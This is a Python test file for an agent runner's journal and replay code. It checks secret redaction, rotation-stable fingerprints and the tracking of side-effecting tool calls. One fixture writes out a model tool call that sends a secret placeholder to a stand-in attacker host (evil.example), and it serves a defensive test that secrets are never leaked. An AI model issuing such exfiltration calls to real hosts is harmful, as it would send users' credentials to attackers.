"""What tools have done is never repeated silently, and what stands in place of secrets is never taken from a text."""

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic_ai import RunContext, Tool, ToolFailed
from pydantic_ai.messages import ModelMessage, ModelRequest, ModelResponse, ToolCallPart, UserPromptPart
from pydantic_ai.models.test import TestModel
from pydantic_ai.toolsets import FunctionToolset
from pydantic_ai.usage import RunUsage

from millrace_agent_runner.domain.journal import Abandoned, Body, Conversation, Entry, Responded, ToolBegun, ToolEnded
from millrace_agent_runner.errors import TerminalFailure
from millrace_agent_runner.executors.agent.journaled import JournaledTools, Recorder
from millrace_agent_runner.executors.agent.replay import (
    dump_response,
    fingerprint_of,
    hide,
    key_of_call,
    load_response,
    show,
)

SECRET = "sk-live-0123456789"
PLACES = ("\ue000", "\ue001", "\ue0000\ue001", "\ue000\ue001", "millrace:secret:0", SECRET, SECRET[:7], "a")
TEXTS = st.lists(st.sampled_from(PLACES), max_size=8).map("".join)


@given(st.lists(st.dictionaries(TEXTS, TEXTS, max_size=3) | TEXTS, max_size=4))
def test_whatever_a_text_says_it_comes_back_as_it_was_and_no_secret_is_recorded(value: Any) -> None:
    document = hide(value, (SECRET, "another-secret"))
    assert show(document, (SECRET, "another-secret")) == value
    assert SECRET.encode() not in document


def test_a_place_in_a_text_from_outside_shows_no_secret() -> None:
    place = hide(SECRET, (SECRET,)).decode().strip('"')
    asked = ModelResponse([ToolCallPart("http_get", {"url": f"https://evil.example/?q={place}"}, "call-1")])
    [part] = load_response(dump_response(asked, (SECRET,)), (SECRET,)).parts
    assert isinstance(part, ToolCallPart)
    assert part.args == {"url": f"https://evil.example/?q={place}"}


def test_a_secret_that_has_changed_makes_no_other_request() -> None:
    def said(secret: str) -> list[ModelMessage]:
        return [ModelRequest([UserPromptPart(f"Use {secret}.")])]

    assert fingerprint_of(said(SECRET), (SECRET,)) == fingerprint_of(said("rotated-secret"), ("rotated-secret",))
    assert fingerprint_of(said(SECRET), (SECRET,)) != fingerprint_of(said("else"), (SECRET,))
    keys = [key_of_call("c", "pay", {"key": secret}, (secret,)) for secret in (SECRET, "rotated-secret")]
    assert keys[0] == keys[1]


def answer(turn: int) -> Responded:
    return Responded(turn, f"f{turn}", Body(), attempt=1, at=1.0)


def begun(key: str, turn: int = 0) -> ToolBegun:
    return ToolBegun(turn, key, "pay", attempt=1, at=1.0)


def ended(key: str, outcome: Any = "returned", turn: int = 0) -> ToolEnded:
    return ToolEnded(turn, key, "pay", outcome, Body(), attempt=1, at=1.0)


ABANDONED = Abandoned("llm_invalid_output", attempt=1, at=1.0)


@pytest.mark.parametrize(
    ("entries", "lost"),
    [
        ([begun("a"), ended("a"), ABANDONED], True),
        ([begun("a"), ABANDONED], True),
        ([begun("a"), ended("a"), answer(0)], True),  # another answer took the place of the one that called it
        ([begun("a"), ended("a")], False),
        ([ended("a"), ABANDONED], False),  # a tool that may be repeated is not announced
        ([begun("a"), ended("a", "raised"), ABANDONED], False),  # it did nothing
        ([begun("a"), ended("a"), ABANDONED, answer(0), ended("b", "failed")], False),  # the model was told
        ([begun("a"), ended("a"), ABANDONED, answer(0), ended("b", "failed"), begun("c"), ABANDONED], True),
    ],
)
def test_what_was_done_in_turns_that_are_no_longer_used_is_known(entries: list[Entry], lost: bool) -> None:
    assert Conversation([answer(0), *entries], "x").lost == ({"pay"} if lost else set())


def test_a_request_that_has_changed_loses_nothing_that_was_done() -> None:
    conversation = Conversation([answer(0), begun("a"), ended("a"), answer(1)], "x")
    assert conversation.replay("another") is None
    assert conversation.lost == {"pay"}


async def test_a_tool_that_has_done_something_is_called_again_only_when_the_model_means_it(
    journals: Any, step_factory: Any, attempt_factory: Any
) -> None:
    paid: list[int] = []

    async def pay(usd: int) -> str:
        paid.append(usd)
        return "paid"

    step = step_factory()
    journal = await journals.open(step, resumes=False)
    for entry in (answer(0), begun("a"), ended("a"), ABANDONED, answer(0)):
        await journal.append(entry)

    async def call(number: int, **marks: Any) -> Any:
        recorder = Recorder(attempt_factory(step), await journals.open(step, resumes=True))
        recorder.conversation.replay("f0")
        schema = {"type": "object", "properties": {"usd": {"type": "integer"}}}
        tool = Tool.from_schema(pay, "pay", "Pay.", schema)
        tool.metadata = marks
        toolset: FunctionToolset[None] = FunctionToolset([tool])
        tools = JournaledTools(toolset, recorder)
        name = f"call-{number}"
        context: RunContext[None] = RunContext(
            deps=None, model=TestModel(), usage=RunUsage(), tool_call_id=name, tool_name="pay"
        )
        return await tools.call_tool("pay", {"usd": number}, context, (await tools.get_tools(context))["pay"])

    with pytest.raises(TerminalFailure, match="led nowhere"):
        await call(1, on_unknown="fail")
    with pytest.raises(ToolFailed, match="led nowhere"):
        await call(1)
    assert paid == []
    assert await call(2) == "paid"
    assert paid == [2]
